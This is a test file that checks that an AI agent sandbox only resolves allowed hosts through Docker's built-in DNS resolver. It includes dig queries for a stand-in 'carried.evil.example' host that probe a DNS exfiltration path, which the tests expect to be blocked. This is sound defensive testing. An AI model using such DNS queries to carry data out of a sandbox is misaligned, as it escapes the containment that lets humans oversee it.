import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";

import { docker, testLabel, tryDocker } from "../support/docker.ts";
import { type Internet, openInternet } from "../support/internet.ts";
import { openSandbox, TEST_IMAGE, type TestSandbox } from "../support/sandbox-image.ts";

const label = testLabel("network-docker-resolver");
let internet: Internet;
let sandbox: TestSandbox;

/** On a network of the user's, Docker's own resolver stands in between, and forwards anything. */
beforeAll(async () => {
  internet = await openInternet(label);
  await internet.setName("allowed.example", internet.web[0]);
  sandbox = await openSandbox({
    label,
    networks: [internet.network],
    env: { AGENT_SANDBOX_HOSTS: "allowed.example", AGENT_SANDBOX_GITHUB_RANGES: "" },
    args: ["--dns", internet.dns],
  });
});

afterAll(async () => {
  await internet.close();
});

const reach = async () =>
  await sandbox.run("curl", "-sS", "--max-time", "5", "http://allowed.example/");

describe("a network with Docker's own resolver", () => {
  it("resolves what is allowed through it", async () => {
    expect(await reach()).toMatchObject({ status: 0 });
    expect(await internet.queries()).toContain("A allowed.example");
  });

  it("lets nobody but the sandbox's resolver ask it, on any of its ports", async () => {
    const rules = await sandbox.inspect("iptables-save", "-t", "nat");
    const ports = [...rules.matchAll(/--to-destination 127\.0\.0\.11:(\d+)/g)].map(
      ([, port]) => port,
    );
    expect(ports).toHaveLength(2);
    for (const port of ["53", ...ports]) {
      for (const more of ["+notcp", "+tcp"]) {
        const question = ["dig", "@127.0.0.11", "-p", port ?? "", more, "+time=1", "+tries=1"];
        const said = await sandbox.run(...question, "carried.evil.example");
        expect(said.stdout).not.toContain("status:");
      }
    }
    expect((await internet.queries()).join()).not.toContain("evil.example");
  });

  it("resolves it with a closed loopback too, also over TCP", async () => {
    const closed = await openSandbox({
      label,
      networks: [internet.network],
      env: { AGENT_SANDBOX_HOSTS: "allowed.example", AGENT_SANDBOX_LOOPBACK: "closed" },
      args: ["--dns", internet.dns],
    });
    for (const more of ["+notcp", "+tcp"]) {
      const { stdout } = await closed.run("dig", "+short", more, "allowed.example", "A");
      expect(stdout.trim()).toBe(internet.web[0]);
    }
    // As its resolver does where an answer is too long.
    const asked = ["dig", "@127.0.0.11", "+short", "+tcp", "allowed.example"];
    const uid = ["setpriv", "--reuid=64053", "--regid=64053", "--clear-groups"];
    expect(await closed.inspect(...uid, ...asked)).toBe(internet.web[0]);
    await closed.remove();
  });

  it("could be asked by somebody whom nothing holds back", async () => {
    const { stdout } = await tryDocker([
      ...["run", "--rm", "--label", label, "--network", internet.network, "--dns", internet.dns],
      ...["--entrypoint", "dig", TEST_IMAGE, "@127.0.0.11", "carried.evil.example"],
    ]);
    expect(stdout).toContain("status: NOERROR");
  });

  it("is still the way out after the container has been started again", async () => {
    await docker(["restart", "--time", "2", sandbox.id]);
    await sandbox.ready();
    expect(await reach()).toMatchObject({ status: 0 });
  });
});
